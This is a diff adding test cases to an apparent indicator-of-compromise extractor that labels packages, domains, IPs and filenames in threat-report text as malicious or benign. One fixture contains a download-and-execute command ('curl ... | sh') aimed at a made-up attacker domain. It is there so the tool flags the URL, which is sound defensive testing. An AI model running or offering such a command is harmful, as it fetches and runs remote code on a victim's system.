@@ -205,6 +205,13 @@ describe('packages', () => {
       ['The malicious npm package “quay-axois” imitates the npm package “quay-axios”.'],
       { malicious: ['pkg:npm/quay-axois'], benign: ['pkg:npm/quay-axios'] },
     ],
+    [
+      'the sentence, though it imitates another',
+      [
+        'The attackers published pkg:pypi/requezts@2.31.4, a malicious package that impersonates a popular library.',
+      ],
+      { malicious: ['pkg:pypi/requezts@2.31.4'] },
+    ],
     ['nothing', ['The npm package quay-fast-pay has a new release.'], { benign: ['pkg:npm/quay-fast-pay'] }],
     [
       'another heading',
@@ -212,6 +219,76 @@ describe('packages', () => {
       { benign: ['pkg:npm/quay-fast-pay'] },
     ],
   ])('are told by %s', (_, body, roles) => {
+    expect(rolesOf(body)).toEqual(roles);
+  });
+});
+
+describe('what works for defenders, or for everybody', () => {
+  it.each<[string, Body, Record<string, string[]>]>([
+    [
+      'checks of the connection, also defanged',
+      [heading('Indicators of compromise'), item('www.msftconnecttest[.]com'), item('elmwick[.]top')],
+      { benign: ['www.msftconnecttest.com'], malicious: ['elmwick.top'] },
+    ],
+    [
+      'a sinkhole, and another',
+      [
+        'The sinkhole at 45.77.12.9 saw 3,000 victims; the domain now resolves to 45.77.12.10, a sinkhole of researchers.',
+      ],
+      { benign: ['45.77.12.9', '45.77.12.10'] },
+    ],
+    [
+      'a sinkhole in a table',
+      [table('45.77.12.9 | IPv4 | sinkhole\n45.77.12.10 | IPv4 | C2')],
+      { benign: ['45.77.12.9'], malicious: ['45.77.12.10'] },
+    ],
+    [
+      'what was sinkholed, and what is to be',
+      ['We sinkholed elmwick-a.com and elmwick-b.org. Administrators should sinkhole elmwick-c.com.'],
+      { malicious: ['elmwick-a.com', 'elmwick-b.org', 'elmwick-c.com'] },
+    ],
+    [
+      'registries of packages',
+      [
+        'Malicious crates on crates.io and packagist.org steal keys. See https://crates.io/crates/quay-log and www.elmwick.org/guide.',
+      ],
+      {
+        benign: ['crates.io', 'packagist.org', 'https://crates.io/crates/quay-log', 'www.elmwick.org/guide'],
+      },
+    ],
+    [
+      'a command under a heading',
+      [heading('Evil domains'), item('curl -s http://elmwick-a.com/x.sh | sh'), item('elmwick-b.net')],
+      { malicious: ['http://elmwick-a.com/x.sh', 'elmwick-b.net'] },
+    ],
+    [
+      'a tool that is called legitimate',
+      ['They used the legitimate remote access tool QuayDesk (QuayDesk.exe) and QuayView.exe is legitimate.'],
+      { benign: ['QuayDesk.exe', 'QuayView.exe'] },
+    ],
+    [
+      'what passes itself off as legitimate',
+      [
+        'It is a trojanised version of the legitimate installer QuayDesk.exe and poses as the legitimate QuayView.exe too.',
+      ],
+      { malicious: ['QuayDesk.exe', 'QuayView.exe'] },
+    ],
+    [
+      'a row and the next',
+      [table('QuayDesk.exe | File | legitimate RMM\nrun.exe | File | loader')],
+      { benign: ['QuayDesk.exe'], malicious: ['run.exe'] },
+    ],
+    [
+      'files of a project',
+      ['The project has config.py, main.rs, script.sh and quayparse.go in its repository.'],
+      { benign: ['config.py', 'main.rs', 'script.sh', 'quayparse.go'] },
+    ],
+    [
+      'the same files of an attack',
+      ['The malware dropped config.py and then ran install.pl from a folder.'],
+      { malicious: ['config.py', 'install.pl'] },
+    ],
+  ])('%s', (_, body, roles) => {
     expect(rolesOf(body)).toEqual(roles);
   });
 });
